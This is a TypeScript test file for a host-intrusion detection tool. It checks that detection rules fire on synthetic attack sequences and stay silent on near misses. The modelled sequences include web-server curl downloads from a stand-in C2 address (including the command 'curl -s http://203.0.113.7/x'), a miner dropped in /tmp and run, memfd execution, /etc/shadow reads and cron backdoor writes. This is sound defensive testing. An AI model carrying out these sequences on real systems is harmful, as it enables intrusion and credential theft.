/**
 * The rules shipped in queries/rules/: each compiles, passes DuckDB's
 * validation, fires on a positive case and stays silent on its near misses.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DuckSession, type SqlRow } from '../../../src/analyze/session.js';
import { compileIocs } from '../../../src/rules/ioc/compile.js';
import { IP_MACROS_SQL } from '../../../src/rules/ip-sql.js';
import { compileNativeFiles } from '../../../src/rules/native/compile.js';
import { validateNativeRuleSql } from '../../../src/rules/native/validate-sql.js';
import type { CompiledRule } from '../../../src/rules/types.js';
import { type RuleEventRow, createRuleEvents } from '../../helpers/rule-table.js';

const DIR = new URL('../../../queries/rules/', import.meta.url).pathname;
const files = readdirSync(DIR).filter((f) => f.endsWith('.yml')).sort().map((f) => ({ path: `queries/rules/${f}`, text: readFileSync(DIR + f, 'utf8') }));
const compiled = compileNativeFiles(files);
const rules = new Map(compiled.compiled.map((r) => [r.id, r]));

let s: DuckSession;
beforeAll(async () => {
  s = await DuckSession.open();
  for (const stmt of IP_MACROS_SQL) await s.query(stmt);
  const iocs = compileIocs([{ type: 'ip', value: '203.0.113.7', label: 'ip-dst', file: 'c2.txt', line: 1 }], 'c2.txt');
  for (const stmt of iocs.setup!) await s.query(stmt);
});
afterAll(() => s.close());

/** A time `sec` seconds after 2026-11-21 10:00:00 UTC. */
function at(sec: number): string {
  return new Date(Date.UTC(2026, 10, 21, 10, 0, 0) + sec * 1000).toISOString().replace('T', ' ').replace('Z', '');
}

async function fire(rule: CompiledRule, rows: RuleEventRow[]): Promise<number[]> {
  await createRuleEvents(s, rows.map((r, i) => ({ rid: i + 1, host: 'web1', ...r })));
  const out: SqlRow[] = 'where' in rule.match
    ? await s.query(`SELECT rid FROM rule_events WHERE coalesce((${rule.match.where}), false) ORDER BY rid`)
    : await s.query(rule.match.query);
  return out.map((r) => Number(r.rid));
}

// Processes: systemd <- nginx <- sh <- curl; systemd <- sshd <- sshd <- bash <- cat; systemd <- cron <- bash.
const NGINX = { proc_key: 'N', pid: 100, proc_name: 'nginx', proc_exe: '/usr/sbin/nginx', anc_names: ['systemd'], anc_keys: ['1'] };
const WEB_SH = { proc_key: 'WS', pid: 101, proc_name: 'sh', proc_exe: '/bin/dash', anc_names: ['nginx', 'systemd'], anc_keys: ['N', '1'] };
const WEB_CURL = { proc_key: 'WC', pid: 102, proc_name: 'curl', proc_exe: '/usr/bin/curl', anc_names: ['sh', 'nginx', 'systemd'], anc_keys: ['WS', 'N', '1'] };
const FPM_WGET = { proc_key: 'FW', pid: 103, proc_name: 'wget', proc_exe: '/usr/bin/wget', anc_names: ['sh', 'php-fpm8.2', 'systemd'], anc_keys: ['FS', 'F', '1'] };
const SSH_BASH = { proc_key: 'SB', pid: 200, proc_name: 'bash', proc_exe: '/usr/bin/bash', anc_names: ['sshd', 'sshd', 'systemd'], anc_keys: ['S2', 'S1', '1'], user: 'alice' };
const SSH_CAT = { proc_key: 'SC', pid: 201, proc_name: 'cat', proc_exe: '/usr/bin/cat', anc_names: ['bash', 'sshd', 'sshd', 'systemd'], anc_keys: ['SB', 'S2', 'S1', '1'], user: 'root' };
const SSH_SUDO = { proc_key: 'SS', pid: 202, proc_name: 'sudo', proc_exe: '/usr/bin/sudo', anc_names: ['bash', 'sshd', 'sshd', 'systemd'], anc_keys: ['SB', 'S2', 'S1', '1'] };
const LOGIN_CURL = { proc_key: 'LC', pid: 203, proc_name: 'curl', proc_exe: '/usr/bin/curl', anc_names: ['bash', 'sshd', 'systemd'], anc_keys: ['SB', 'S1', '1'] };
const CRON_BASH = { proc_key: 'CB', pid: 300, proc_name: 'bash', proc_exe: '/usr/bin/bash', anc_names: ['cron', 'systemd'], anc_keys: ['CR', '1'] };
const CRON_CAT = { proc_key: 'CC', pid: 301, proc_name: 'cat', proc_exe: '/usr/bin/cat', anc_names: ['bash', 'cron', 'systemd'], anc_keys: ['CB', 'CR', '1'] };
const SCANNER = { proc_key: 'X', pid: 400, proc_name: 'linpeas.sh', proc_exe: '/usr/bin/bash', anc_names: ['bash'], anc_keys: ['SB'] };
const OTHER = { proc_key: 'Y', pid: 401, proc_name: 'find', proc_exe: '/usr/bin/find', anc_names: ['bash'], anc_keys: ['SB'] };

const failedOpens = (n: number, step: number, who = SCANNER, path = (i: number) => `/etc/f${i}`, ret = -13) =>
  Array.from({ length: n }, (_, i) => ({ time: at(i * step), kind: 'open', ret, error: ret < 0 ? 'EACCES' : null, is_open_read: true, ...who, path: path(i) }));

interface Case { rule: string; positive: [RuleEventRow[], number[]]; nearMisses: [string, RuleEventRow[]][] }

const CASES: Case[] = [
  {
    rule: 'hs-webshell-download-then-ioc-connect',
    positive: [[
      { time: at(0), kind: 'exec', ...WEB_CURL, path: '/usr/bin/curl' },
      { time: at(2), kind: 'connect', ...WEB_CURL, daddr: '203.0.113.7', dport: 443 },
    ], [2]],
    nearMisses: [
      ['curl from a login shell connects to the IOC address', [
        { time: at(0), kind: 'exec', ...LOGIN_CURL }, { time: at(2), kind: 'connect', ...LOGIN_CURL, daddr: '203.0.113.7' }]],
      ['a web server curl connects to an address not on the list', [
        { time: at(0), kind: 'exec', ...WEB_CURL }, { time: at(2), kind: 'connect', ...WEB_CURL, daddr: '203.0.113.8' }]],
      ['the IOC connection comes 61 s after the download', [
        { time: at(0), kind: 'exec', ...FPM_WGET }, { time: at(61), kind: 'connect', ...FPM_WGET, daddr: '203.0.113.7' }]],
      ['the web server itself connects to the IOC address, with no curl', [
        { time: at(0), kind: 'exec', ...WEB_SH }, { time: at(2), kind: 'connect', ...NGINX, daddr: '203.0.113.7' }]],
    ],
  },
  {
    rule: 'hs-tmp-write-then-exec',
    positive: [[
      { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_CURL, path: '/tmp/.x/kinsing', path_name: 'kinsing' },
      { time: at(5), kind: 'exec', ...WEB_SH, proc_key: 'K', proc_exe: '/tmp/.x/kinsing', path: '/tmp/.x/kinsing' },
    ], [2]],
    nearMisses: [
      ['another file in /tmp is executed', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_CURL, path: '/tmp/a' },
        { time: at(5), kind: 'exec', ...WEB_SH, path: '/tmp/b' }]],
      ['the file is outside the temp directories', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_CURL, path: '/home/u/x' },
        { time: at(5), kind: 'exec', ...WEB_SH, path: '/home/u/x' }]],
      ['the exec comes 61 s after the write', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_CURL, path: '/dev/shm/x' },
        { time: at(61), kind: 'exec', ...WEB_SH, path: '/dev/shm/x' }]],
      ['the file was only read', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: false, is_open_read: true, ...WEB_CURL, path: '/tmp/x' },
        { time: at(5), kind: 'exec', ...WEB_SH, path: '/tmp/x' }]],
      ['the write failed', [
        { time: at(0), kind: 'open', ret: -13, error: 'EACCES', is_open_write: true, ...WEB_CURL, path: '/tmp/x' },
        { time: at(5), kind: 'exec', ...WEB_SH, path: '/tmp/x' }]],
    ],
  },
  {
    rule: 'hs-memfd-exec',
    positive: [[
      { time: at(0), kind: 'memfd', ...WEB_SH, name: 'payload', path: '/memfd:payload' },
      { time: at(1), kind: 'exec', ...WEB_SH, proc_exe: '/memfd:payload (deleted)', path: '/memfd:payload (deleted)' },
    ], [2]],
    nearMisses: [
      ['an ordinary exec', [{ time: at(0), kind: 'exec', ...WEB_CURL, path: '/usr/bin/curl' }]],
      ['a memfd created but not executed', [{ time: at(0), kind: 'memfd', ...WEB_SH, name: 'payload', path: '/memfd:payload' }]],
      ['a file named memfd executed', [{ time: at(0), kind: 'exec', ...WEB_SH, proc_exe: '/tmp/memfd:x', path: '/tmp/memfd:x' }]],
    ],
  },
  {
    rule: 'hs-etc-failed-open-burst',
    positive: [failedOpens(25, 0.4), [20]],
    nearMisses: [
      ['19 failed opens', failedOpens(19, 0.4)],
      ['20 failed opens of the same file', failedOpens(20, 0.4, SCANNER, () => '/etc/shadow')],
      ['20 failed opens spread over 19 s', failedOpens(20, 1)],
      ['20 successful opens', failedOpens(20, 0.4, SCANNER, (i) => `/etc/f${i}`, 3)],
      ['20 failed opens outside /etc', failedOpens(20, 0.4, SCANNER, (i) => `/var/f${i}`)],
      ['20 failed opens split between two processes', [...failedOpens(10, 0.4), ...failedOpens(10, 0.4, OTHER, (i) => `/etc/g${i}`)]],
    ],
  },
  {
    rule: 'hs-ssh-shell-reads-shadow',
    positive: [[
      { time: at(0), kind: 'exec', ...SSH_BASH },
      { time: at(30), kind: 'open', ret: 3, is_open_read: true, ...SSH_CAT, path: '/etc/shadow' },
    ], [2]],
    nearMisses: [
      ['a shell under cron reads /etc/shadow', [
        { time: at(0), kind: 'exec', ...CRON_BASH }, { time: at(30), kind: 'open', ret: 3, is_open_read: true, ...CRON_CAT, path: '/etc/shadow' }]],
      ['sudo reads /etc/shadow in the SSH shell tree', [
        { time: at(0), kind: 'exec', ...SSH_BASH }, { time: at(30), kind: 'open', ret: 3, is_open_read: true, ...SSH_SUDO, path: '/etc/shadow' }]],
      ['the SSH shell tree reads /etc/passwd', [
        { time: at(0), kind: 'exec', ...SSH_BASH }, { time: at(30), kind: 'open', ret: 3, is_open_read: true, ...SSH_CAT, path: '/etc/passwd' }]],
      ['a process outside the shell tree reads /etc/shadow', [
        { time: at(0), kind: 'exec', ...SSH_BASH }, { time: at(30), kind: 'open', ret: 3, is_open_read: true, ...CRON_CAT, path: '/etc/shadow' }]],
      ['the read comes 31 minutes after the shell started', [
        { time: at(0), kind: 'exec', ...SSH_BASH }, { time: at(31 * 60), kind: 'open', ret: 3, is_open_read: true, ...SSH_CAT, path: '/etc/shadow' }]],
    ],
  },
  {
    rule: 'hs-cron-write-then-chmod',
    positive: [[
      { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_SH, path: '/etc/cron.d/backdoor' },
      { time: at(3), kind: 'chmod', ret: 0, ...WEB_CURL, path: '/etc/cron.d/backdoor', mode: 0o755 },
    ], [2]],
    nearMisses: [
      ['another cron file is chmod\'ed', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_SH, path: '/etc/cron.d/a' },
        { time: at(3), kind: 'chmod', ret: 0, ...WEB_SH, path: '/etc/cron.d/b' }]],
      ['the chmod comes 61 s after the write', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_SH, path: '/var/spool/cron/crontabs/root' },
        { time: at(61), kind: 'chmod', ret: 0, ...WEB_SH, path: '/var/spool/cron/crontabs/root' }]],
      ['the file is not a cron file', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: true, ...WEB_SH, path: '/etc/cron.txt' },
        { time: at(3), kind: 'chmod', ret: 0, ...WEB_SH, path: '/etc/cron.txt' }]],
      ['the cron file was only read', [
        { time: at(0), kind: 'open', ret: 3, is_open_write: false, is_open_read: true, ...WEB_SH, path: '/etc/crontab' },
        { time: at(3), kind: 'chmod', ret: 0, ...WEB_SH, path: '/etc/crontab' }]],
    ],
  },
];

describe('the shipped native rules', () => {
  it('all compile, and each has a test here', () => {
    expect(compiled.skipped).toEqual([]);
    expect([...rules.keys()].sort()).toEqual(CASES.map((c) => c.rule).sort());
    expect(rules.size).toBeGreaterThanOrEqual(4);
  });

  it.each([...rules.keys()])('%s passes DuckDB validation', async (id) => {
    await createRuleEvents(s, []);
    expect(await validateNativeRuleSql(s, rules.get(id)!)).toBeNull();
  });

  it.each(CASES.map((c) => [c.rule, c] as const))('%s fires on its positive case', async (id, c) => {
    expect(await fire(rules.get(id)!, c.positive[0])).toEqual(c.positive[1]);
  });

  it.each(CASES.flatMap((c) => c.nearMisses.map(([name, rows]) => [c.rule, name, rows] as const)))('%s stays silent when %s', async (id, _name, rows) => {
    expect(await fire(rules.get(id)!, rows)).toEqual([]);
  });

  it('render their messages from the reported event', async () => {
    await createRuleEvents(s, [
      { rid: 1, time: at(0), host: 'web1', kind: 'exec', ...WEB_CURL, proc_commandline: 'curl -s http://203.0.113.7/x' },
      { rid: 2, time: at(2), host: 'web1', kind: 'connect', ...WEB_CURL, daddr: '203.0.113.7', dport: 443, proc_commandline: 'curl -s http://203.0.113.7/x' },
    ]);
    const [row] = await s.query((rules.get('hs-webshell-download-then-ioc-connect')!.match as { query: string }).query);
    expect(row).toMatchObject({
      rid: 2n,
      message: '/usr/bin/curl (pid 102) under a web server connected to IOC address 203.0.113.7 port 443: curl -s http://203.0.113.7/x',
      extra: { earlier_rids: [1n], within: '60s', scope: 'tree' },
    });
  });
});
